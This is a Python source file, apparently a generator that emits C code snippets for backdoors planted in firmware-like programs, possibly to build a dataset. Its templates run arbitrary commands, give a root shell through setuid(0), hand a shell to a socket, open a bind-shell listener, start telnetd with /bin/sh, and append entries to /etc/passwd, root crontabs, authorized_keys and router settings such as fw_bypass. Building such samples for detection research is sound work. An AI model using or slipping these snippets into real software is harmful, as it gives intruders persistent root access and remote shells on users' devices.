"""What a plant lets its user do, as C statements over a text COMMAND and, where there is one, a socket SOCKET."""

HEADERS = ("stdio.h", "stdlib.h", "string.h", "unistd.h", "fcntl.h", "sys/types.h", "sys/stat.h")
FILES = ("/etc/passwd", "/etc/crontabs/root", "/etc/dropbear/authorized_keys", "/etc/rc.local", "/var/spool/cron/root")
SETTINGS = ("telnet_enable", "wan_mgmt", "remote_admin", "fw_bypass")
SHELLS = ("/bin/sh", "/bin/sh", "/bin/ash", "/bin/bash")
TELNETD = ("/usr/sbin/telnetd", "/bin/busybox telnetd", "/usr/sbin/utelnetd")


class Power:
    """A power: its name, the statements, and whether it needs a command or a socket."""

    def __init__(self, name, code, detail=None):
        self.name, self.code, self.detail = name, code, detail


def of(name, texts):
    """The power `name`, with its details by chance."""
    return MAKERS[name](texts)


def system(_):
    return Power("system", "{ int ended = system(COMMAND); (void)ended; }")


def popen(_):
    return Power("popen", """{
    FILE *from = popen(COMMAND, "r");
    char answer[256];
    if (from) {
        while (fgets(answer, sizeof answer, from)) {
            ANSWER
        }
        pclose(from);
    }
}""")


def execve(texts):
    shell = texts.pick(SHELLS)
    return Power("execve", f"""if (fork() == 0) {{
    char *words[4];
    words[0] = (char *)"sh";
    words[1] = (char *)"-c";
    words[2] = (char *)(COMMAND);
    words[3] = NULL;
    execve("{shell}", words, NULL);
    _exit(127);
}}""", shell)


def shell(texts):
    path = texts.pick(SHELLS)
    return Power("shell", f"""if (fork() == 0) {{
    dup2(SOCKET, 0);
    dup2(SOCKET, 1);
    dup2(SOCKET, 2);
    execl("{path}", "sh", (char *)0);
    _exit(127);
}}""", path)


def identity(texts):
    path = texts.pick(SHELLS)
    return Power("identity", f"""if (fork() == 0) {{
    if (setgid(0) || setuid(0))
        _exit(1);
    execl("{path}", "sh", "-c", COMMAND, (char *)0);
    _exit(127);
}}""", path)


def file(texts):
    path = texts.pick(FILES)
    return Power("file", f"""{{
    int to = open("{path}", O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (to >= 0) {{
        ssize_t written = write(to, COMMAND, strlen(COMMAND));
        (void)written;
        close(to);
    }}
}}""", path)


def settings(texts):
    name, path = texts.pick(SETTINGS), texts.pick(["/etc/config/system", "/etc/nvram.conf", "/mnt/mtd/config.ini"])
    return Power("settings", f"""{{
    FILE *to = fopen("{path}", "a");
    if (to) {{
        fprintf(to, "%s=%s\\n", "{name}", "1");
        fclose(to);
    }}
}}""", f"{path}: {name}")


def telnetd(texts):
    program, port = texts.pick(TELNETD), texts.port()
    if texts.number(0, 1):
        return Power("telnetd", f'{{ int ended = system("{program} -p {port} -l /bin/sh &"); (void)ended; }}', f"system, port {port}")
    first = program.split()[0]
    words = ", ".join(f'"{word}"' for word in [*program.split(), "-p", str(port), "-l", "/bin/sh"])
    return Power("telnetd", f'if (fork() == 0) {{\n    execl("{first}", {words}, (char *)0);\n    _exit(127);\n}}', f"execl, port {port}")


def listener(texts):
    """A shell for whoever connects next."""
    port, path = texts.port(), texts.pick(SHELLS)
    return Power("listener", f"""if (fork() == 0) {{
    struct sockaddr_in own;
    int up = socket(AF_INET, SOCK_STREAM, 0), to;
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons({port});
    if (up < 0 || bind(up, (struct sockaddr *)&own, sizeof own) < 0 || listen(up, 1) < 0)
        _exit(1);
    to = accept(up, NULL, NULL);
    dup2(to, 0);
    dup2(to, 1);
    dup2(to, 2);
    execl("{path}", "sh", (char *)0);
    _exit(127);
}}""", f"port {port}")


MAKERS = {"system": system, "popen": popen, "execve": execve, "shell": shell, "identity": identity, "file": file, "settings": settings,
          "telnetd": telnetd, "listener": listener}
COMMANDS = ("system", "popen", "execve", "identity", "file", "settings")  # need a command, no socket
SERVICES = ("telnetd", "listener", "telnetd", "settings")  # need neither
